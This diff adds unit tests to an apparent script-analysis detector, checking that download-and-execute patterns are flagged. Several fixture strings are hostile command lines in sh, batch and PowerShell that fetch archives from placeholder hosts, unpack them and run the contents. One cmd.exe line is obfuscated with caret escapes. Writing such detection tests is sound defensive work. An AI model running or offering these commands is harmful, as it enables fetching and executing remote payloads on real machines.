@@ -530,3 +530,40 @@ describe('PowerShell secrets', () => {
     ).not.toContain('script.env-exfil');
   });
 });
+
+describe('archives downloaded, unpacked and run; cmd.exe command lines', () => {
+  const found = (text: string, dialect: 'sh' | 'batch' | 'powershell') =>
+    analyzeScript(text, dialect, true)
+      .filter((h) => h.confidence >= 0.5)
+      .map((h) => h.rule);
+  it.each([
+    ['curl -s -o a.zip http://203.0.113.5/a.zip & tar -xf a.zip -C out & start "" /b out\\svc.exe', 'batch'],
+    [
+      'curl -fsSL -o /tmp/n.tgz https://x.example/n.tgz && tar -xzf /tmp/n.tgz -C /tmp/n && /tmp/n/bin/run &',
+      'sh',
+    ],
+    ['wget -q -O p.zip https://x.example/p.zip && unzip -q p.zip && ./payload/run.sh', 'sh'],
+    [
+      'Invoke-WebRequest -Uri https://x.example/p.zip -OutFile $env:TEMP\\p.zip; Expand-Archive -Path $env:TEMP\\p.zip -DestinationPath $env:TEMP\\p; Start-Process $env:TEMP\\p\\svc.exe',
+      'powershell',
+    ],
+  ] as const)('%s', (text, dialect) => {
+    expect(found(text, dialect)).toContain('script.download-execute');
+  });
+  it('cmd /c with its switches, caret escapes and a delayed-expansion variable', () => {
+    expect(
+      found(
+        'cmd.exe /v:on /d /s /c "set "u=http://203.0.113.5/a.exe" & ^c^u^r^l -s -k -o a.exe "!u!" & s^tart "" /b a.exe"',
+        'sh',
+      ),
+    ).toContain('script.download-execute');
+  });
+  it('quiet: an archive unpacked and only programs on PATH run after it', () => {
+    expect(
+      found(
+        'curl -fsSL -o node.tgz https://x.example/node.tgz && tar -xzf node.tgz -C vendor && node --version && npm rebuild',
+        'sh',
+      ),
+    ).toEqual([]);
+  });
+});
